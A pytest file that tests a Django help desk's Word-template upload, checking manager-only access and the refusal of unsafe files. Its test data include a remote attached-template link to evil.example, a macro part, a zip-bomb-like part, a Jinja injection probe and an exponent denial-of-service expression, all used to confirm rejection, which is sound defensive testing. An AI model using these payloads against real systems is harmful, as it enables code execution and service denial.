"""The desk's own Word template: who may change it, what is refused, and that it is used."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from docx import Document

import factories
from amends.store.models import DocumentTemplate, Technician
from amends.web.documents import wording
from signing_in import browser, manager

pytestmark = pytest.mark.django_db
WORDS = "{{ title }} for the board"


@pytest.fixture
def carla() -> Technician:
    return manager("Carla")


@pytest.fixture
def desk(carla: Technician) -> Client:
    return browser(carla)


def made(*paragraphs: str, footer: str = "", title: str = "") -> bytes:
    """A Word file with these paragraphs."""
    document = Document()
    for words in paragraphs:
        document.add_paragraph(words)
    if footer:
        document.sections[0].footer.paragraphs[0].text = footer
    document.core_properties.title = title
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_part(file: bytes, name: str, content: bytes) -> bytes:
    """The same file with a part more (or another one of that name)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(file)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename != name:
                new.writestr(info, old.read(info))
        new.writestr(name, content)
    return out.getvalue()


def upload(desk: Client, file: bytes, name: str = "ours.docx") -> tuple[int, str]:
    answer = desk.post("/settings/documents/", {"file": SimpleUploadedFile(name, file)})
    return answer.status_code, answer.content.decode()


def test_a_template_is_put_in_force_used_and_taken_back(desk: Client, carla: Technician) -> None:
    case = factories.case("Mail is down")

    status, _ = upload(
        desk, made(WORDS, "{%p for section in sections %}", "{{ section.title }}", "{%p endfor %}")
    )

    assert status == 302
    assert "In force: ours.docx." in desk.get("/settings/documents/").content.decode()
    assert desk.get("/settings/documents/template/").content != b""
    assert "Ticket note for the board" in text_of(desk, case.id)

    desk.post("/settings/documents/", {"shipped": "on"})

    assert "for the board" not in text_of(desk, case.id)
    assert DocumentTemplate.objects.count() == 2


def text_of(desk: Client, case: int) -> str:
    answer = desk.get(f"/cases/{case}/document/word/")
    assert answer.status_code == 200
    return "\n".join(paragraph.text for paragraph in Document(io.BytesIO(answer.content)).paragraphs)


LINKED = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("file", "says"),
    [
        (b"", "not a Word document"),
        (b"PK\x03\x04 and then nothing", "not a Word document"),
        (b"x" * (wording.LARGEST + 1), "2 MB are the most"),
        (with_part(made("x"), "word/vbaProject.bin", b"x"), "macros"),
        (with_part(made("x"), "word/_rels/settings.xml.rels", LINKED), "another place"),
        (with_part(made("x"), "word/media/zeros.bin", bytes(21 * 1024 * 1024)), "more than a letter"),
        (made("{{ title"), "cannot be filled"),
        (made("{{ title.__class__.__mro__[1] }}"), "cannot be filled"),
        (made("{{ title.upper() }}"), "holds a call"),
        (made("{{ title|attr('x') }}"), "cannot be filled"),
        (made("{{ 9**9**9 }}"), "holds a pow"),
        (made("{% for a in range(9) %}x{% endfor %}"), "holds a call"),
        (made("{% set x = 1 %}"), "holds a assign"),
        (made("x", footer="{{ title.upper() }}"), "holds a call"),
        (made("x", title="{{ title.upper() }}"), "holds a call"),
        (
            made("{% for a in sections %}" * 3 + "x" + "{% endfor %}" * 3),
            "deeper",
        ),
    ],
)  # fmt: skip
def test_what_is_no_plain_template_is_refused(desk: Client, file: bytes, says: str) -> None:
    status, html = upload(desk, file)

    assert status == 422
    assert says in html
    assert not DocumentTemplate.objects.exists()


def test_neither_or_both_is_asked_again(desk: Client) -> None:
    assert desk.post("/settings/documents/", {}).status_code == 422


def test_only_a_manager_changes_it() -> None:
    bob = browser(factories.technician("Bob", of=factories.team()))

    status, _ = upload(bob, made("x"))

    assert status == 403
    assert not DocumentTemplate.objects.exists()


def test_a_template_that_no_longer_fills_shows_the_page_and_says_so(desk: Client, carla: Technician) -> None:
    case = factories.case("Mail is down")
    DocumentTemplate.objects.create(
        name="old.docx", file=made("{{ title.upper() }}"), by=carla, at=case.created_at
    )

    answer = desk.get(f"/cases/{case.id}/document/word/")

    assert answer.status_code == 503
    assert "The template cannot be filled" in answer.content.decode()
